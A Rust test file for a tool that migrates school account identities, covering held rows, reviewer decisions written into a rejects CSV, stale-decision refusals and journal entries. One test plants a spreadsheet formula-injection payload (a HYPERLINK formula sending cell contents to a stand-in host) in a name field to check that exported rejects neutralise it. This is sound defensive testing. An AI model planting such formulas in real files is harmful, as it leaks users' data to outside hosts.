//! Decisions on held rows, in the file of rejects that comes back.

use std::ops::Deref;

use serde_json::{Value, json};

use crate::support::desk::{Desk, VO as HEADER};

const MOVE: &str = "sector = \"vo\"\n[school]\nbrin = \"99ZZ00\"\nname = \"Testschool\"\n[from]\ndelivery = \"elf\"\nidp = \"magister\"\nrealm = \
                    \"oud\"\n[to]\ndelivery = \"elf\"\nidp = \"azure-ad\"\nrealm = \"nieuw\"\n";

/// A folder with a move, a list of four rows and a store in which the new identities of two of them
/// are taken already.
struct Publisher(Desk, &'static str);

impl Deref for Publisher {
    type Target = Desk;

    fn deref(&self) -> &Desk {
        &self.0
    }
}

impl Publisher {
    fn new(store: &'static str) -> Self {
        let desk = Self(Desk::new(&["--lang", "en", "--quiet"]), store);
        desk.write("move.toml", MOVE);
        let row =
            |nth: u32| format!("Naam{nth},,Achternaam{nth},1234 AB,{nth},{nth}@oud,{nth}@nieuw\n");
        desk.write("list.csv", &(HEADER.to_owned() + &(1..=4).map(row).collect::<String>()));
        let keyrings =
            "profile_id,identity\nP1,1@oud\nP2,2@oud\nP3,3@oud\nP4,4@oud\nQ2,2@nieuw\nQ3,3@nieuw\n";
        desk.write("keyrings.csv", keyrings);
        if store != "keyrings.csv" {
            desk.run(&["keyrings", "init", "--store", store], 0);
            desk.run(&["keyrings", "import", "keyrings.csv", "--store", store], 0);
        }
        desk
    }

    fn apply(&self, options: &[&str], code: i32) -> Value {
        let words = ["apply", "list.csv", "--move", "move.toml", "--store", self.1];
        self.json(&[&words, options].concat(), code)
    }

    /// Applies what can be applied, and returns the lines of the rejects.
    fn hold(&self) -> Vec<String> {
        let partial = self.apply(&["--hold", "--rejects", "held.csv"], 1);
        assert_eq!(
            (&partial["counts"]["linked"], &partial["counts"]["held"]),
            (&2.into(), &2.into())
        );
        self.read("held.csv").lines().map(str::to_owned).collect()
    }

    /// Writes decisions in the rejects, one for each row.
    fn decide(&self, lines: &[String], words: [&str; 2]) {
        let decided = |(line, word): (&String, &str)| {
            let (rest, row) = line.rsplit_once(',').unwrap();
            format!("{rest}{word},{row}")
        };
        let rows: Vec<String> = lines[1..].iter().zip(words).map(decided).collect();
        self.write("decisions.csv", format!("{}\n{}\n", lines[0], rows.join("\n")));
    }

    fn runs(&self) -> Vec<Value> {
        self.json(&["log", "--store", self.1], 0)["runs"].as_array().unwrap().clone()
    }
}

#[test]
fn the_rejects_have_room_for_a_decision_and_say_which_row_they_are() {
    let lines = Publisher::new("store.db").hold();
    assert!(lines[0].ends_with(",Mark,Reason,Decision,Row"), "{}", lines[0]);
    assert!(lines[1].ends_with(",,3") && lines[2].ends_with(",,4"), "{lines:?}");
}

#[test]
fn a_formula_in_a_name_is_text_in_the_rejects_and_known_again_in_the_decisions() {
    let desk = Publisher::new("store.db");
    let live = r#""=HYPERLINK(""https://x.example/""&A1,""klik"")""#;
    desk.write("list.csv", desk.read("list.csv").replace("Naam2", live));
    let lines = desk.hold();
    assert!(
        lines[1].starts_with(r#""=""=HYPERLINK(""""https://x.example/""""&A1,""""klik"""")""","#),
        "{lines:?}"
    );
    desk.decide(&lines, ["take-over", "skip"]);
    let taken = desk.apply(&["--decisions", "decisions.csv"], 1);
    assert_eq!(taken["decisions"], json!({"link": 0, "skip": 1, "take_over": 1}));
    assert_eq!(taken["counts"]["linked"], 1, "{taken:#}");
}

#[test]
fn the_history_of_a_row_tells_what_was_decided_of_it_whatever_came_of_that() {
    for store in ["store.db", "keyrings.csv"] {
        let desk = Publisher::new(store);
        let lines = desk.hold();
        desk.decide(&lines, ["take-over", "skip"]);
        let taken = desk.apply(&["--decisions", "decisions.csv"], 1);
        let list = taken["list_id"].as_str().unwrap();
        let rows = desk.json(&["log", list, "--rows", "--store", store], 0)["rows"].clone();
        let of = |row: u32| {
            let found = rows.as_array().unwrap().iter().find(|it| it["row"] == row).unwrap();
            let decided = found["decisions"][0]["decision"].as_str().map(str::to_owned);
            (decided, found["steps"].as_array().unwrap().len())
        };
        assert_eq!(of(2), (None, 1), "{store}");
        assert_eq!(of(3), (Some("take-over".into()), 2), "{store}");
        assert_eq!(of(4), (Some("skip".into()), 0), "{store}");
        let told = desk.run(&["log", list, "--rows", "--store", store], 0);
        assert!(told.contains("decided: take-over") && told.contains("decided: skip"), "{told}");
    }
}

#[test]
fn every_decision_is_noted_in_the_journal_once_without_a_name_or_an_identity() {
    for store in ["store.db", "keyrings.csv"] {
        let desk = Publisher::new(store);
        let lines = desk.hold();
        desk.decide(&lines, ["skip", "overslaan"]);
        let before = desk.runs().len();
        let skipped = desk.apply(&["--decisions", "decisions.csv"], 1);
        let none = json!({"link": 0, "skip": 2, "take_over": 0});
        assert_eq!((&skipped["outcome"], &skipped["decisions"]), (&"no-change".into(), &none));
        let runs = desk.runs();
        assert_eq!((runs.len(), &runs[before]["decisions"]), (before + 1, &none), "{store}");
        let told = desk.run(&["log", "--store", store], 0);
        assert!(told.contains("0 to be linked, 2 to stay held"), "{store}: {told}");
        desk.apply(&["--decisions", "decisions.csv"], 1);
        assert_eq!(desk.runs().len(), before + 1, "{store}");
        let shown = desk.run(
            &[
                "apply",
                "list.csv",
                "--move",
                "move.toml",
                "--store",
                store,
                "--decisions",
                "decisions.csv",
            ],
            1,
        );
        assert!(shown.contains("Decided: 0 to be linked, 2 to stay held"), "{shown}");
        assert!(!shown.contains("Naam") && !shown.contains("@oud"), "{shown}");
    }
}

#[test]
fn a_decision_about_a_row_that_nothing_holds_refuses_the_run() {
    let desk = Publisher::new("store.db");
    let lines = desk.hold();
    let linked = "Naam1,,Achternaam1,1234 AB,1,1@oud,1@nieuw,,x,link,2";
    desk.write("decisions.csv", format!("{}\n{linked}\n", lines[0]));
    let refused = desk.apply(&["--decisions", "decisions.csv"], 1);
    assert_eq!(
        (&refused["outcome"], &refused["refused_because"]),
        (&"refused".into(), &"not-held".into())
    );
}

#[test]
fn a_decision_that_cannot_be_carried_out_is_told_with_its_row() {
    let desk = Publisher::new("store.db");
    let lines = desk.hold();
    desk.decide(&lines, ["link", "take-over"]);
    let run = desk.apply(&["--decisions", "decisions.csv"], 1);
    assert_eq!(
        (&run["decided_but_held"], &run["counts"]["linked"], &run["orphaned"][0]["row"]),
        (&json!([3]), &1.into(), &4.into())
    );
    let words = ["apply", "list.csv", "--move", "move.toml", "--store", "store.db"];
    let text = desk.run(&[&words[..], &["--decisions", "decisions.csv"]].concat(), 1);
    assert!(text.contains("held all the same, for the reason told of row 3"), "{text}");
}

#[test]
fn a_decision_holds_only_for_the_profile_that_it_was_made_about() {
    for store in ["store.db", "keyrings.csv"] {
        let desk = Publisher::new(store);
        let lines = desk.hold();
        desk.decide(&lines, ["take-over", ""]);
        // Meanwhile 2@nieuw was given up, and issued to somebody else.
        let export = desk.run(&["keyrings", "export", "--store", store], 0);
        desk.write("export.csv", export.replace("Q2,2@nieuw", "Q7,2@nieuw"));
        desk.run(&["keyrings", "sync", "export.csv", "--store", store, "--max-share", "100"], 0);
        let before = desk.run(&["keyrings", "export", "--store", store], 0);
        assert!(before.contains("Q7,2@nieuw"), "{before}");
        let refused = desk.apply(&["--decisions", "decisions.csv"], 1);
        assert_eq!(
            (&refused["refused_because"], &refused["held"][0]["rows"]),
            (&"stale-decisions".into(), &json!([3])),
            "{store}"
        );
        let said = desk.run(
            &[
                "apply",
                "list.csv",
                "--move",
                "move.toml",
                "--store",
                store,
                "--decisions",
                "decisions.csv",
            ],
            1,
        );
        assert!(!said.contains("3@nieuw"), "{said}");
        assert_eq!(desk.run(&["keyrings", "export", "--store", store], 0), before);
        desk.apply(&["--hold", "--dry-run", "--rejects", "held.csv", "--force"], 1);
        let lines: Vec<String> = desk.read("held.csv").lines().map(str::to_owned).collect();
        desk.decide(&lines, ["take-over", ""]);
        assert_eq!(
            desk.apply(&["--decisions", "decisions.csv"], 1)["orphaned"],
            json!([{"row": 3, "profile_id": "Q7"}]),
            "{store}"
        );
    }
}

#[test]
fn a_decision_holds_only_for_the_person_whom_the_profile_named() {
    let desk = Publisher::new("keyrings.csv");
    let named = |last_name: &str| {
        let header = "profile_id,identity,first_name,last_name\n";
        let rest = "P1,1@oud,,\nP2,2@oud,,\nP3,3@oud,,\nP4,4@oud,,\nQ2,2@nieuw,,\n";
        desk.write("keyrings.csv", format!("{header}{rest}Q3,3@nieuw,{last_name}\n"));
    };
    named("Naam3,Achternaam3");
    desk.apply(&["--hold", "--dry-run", "--rejects", "held.csv"], 1);
    let lines: Vec<String> = desk.read("held.csv").lines().map(str::to_owned).collect();
    desk.decide(&lines, ["", "take-over"]);
    named("Bram,de Vries");
    let refused = desk.apply(&["--decisions", "decisions.csv"], 1);
    assert_eq!(refused["refused_because"], "stale-decisions");
    named("Naam3,Achternaam3");
    let applied = desk.apply(&["--decisions", "decisions.csv"], 1);
    assert_eq!(applied["counts"]["linked"], 1, "{applied}");
}

#[test]
fn a_mistake_in_the_decisions_is_told_with_its_row_and_changes_nothing() {
    let desk = Publisher::new("store.db");
    let lines = desk.hold();
    let before = desk.run(&["keyrings", "export", "--store", "store.db"], 0);
    let told = |words: [&str; 2], mend: fn(String) -> String| {
        desk.decide(&lines, words);
        desk.write("decisions.csv", mend(desk.read("decisions.csv")));
        desk.apply(&["--decisions", "decisions.csv"], 1)["error"].as_str().unwrap().to_owned()
    };
    let unknown = told(["link", "misschien"], |text| text);
    assert!(unknown.contains("row 3") && !unknown.contains("misschien"), "{unknown}");
    assert!(told(["link", ""], |text| text.replace("2@nieuw", "5@nieuw")).contains("row 2"));
    assert!(told(["", ""], |text| text).contains("no row has a decision"));
    assert!(told(["link", ""], |text| text.replace("Decision", "Opinion")).contains("no column"));
    assert_eq!(desk.run(&["keyrings", "export", "--store", "store.db"], 0), before);
    desk.run(
        &[
            "apply",
            "list.csv",
            "--move",
            "move.toml",
            "--store",
            "store.db",
            "--decisions",
            "decisions.csv",
            "--on-collision",
            "skip",
        ],
        2,
    );
}

#[test]
fn only_rows_that_are_decided_of_run_and_the_same_file_again_changes_nothing() {
    for store in ["store.db", "keyrings.csv"] {
        let desk = Publisher::new(store);
        let lines = {
            desk.apply(&["--hold", "--dry-run", "--rejects", "held.csv"], 1);
            desk.read("held.csv").lines().map(str::to_owned).collect::<Vec<_>>()
        };
        desk.decide(&lines, ["overnemen", ""]);
        let taken = desk.apply(&["--decisions", "decisions.csv"], 1);
        assert_eq!(
            (&taken["counts"]["linked"], &taken["counts"]["held"]),
            (&1.into(), &3.into()),
            "{store}"
        );
        assert_eq!(taken["orphaned"], json!([{"row": 3, "profile_id": "Q2"}]), "{store}");
        let export = desk.run(&["keyrings", "export", "--store", store], 0);
        assert!(export.contains("P2,2@nieuw") && !export.contains("P1,1@nieuw"), "{export}");
        assert_eq!(
            desk.apply(&["--decisions", "decisions.csv"], 1)["counts"]["already"],
            1,
            "{store}"
        );
        assert_eq!(desk.run(&["keyrings", "export", "--store", store], 0), export);
        // The rest can still be applied, and decided of later.
        assert_eq!(desk.apply(&["--hold"], 1)["counts"]["linked"], 2, "{store}");
    }
}
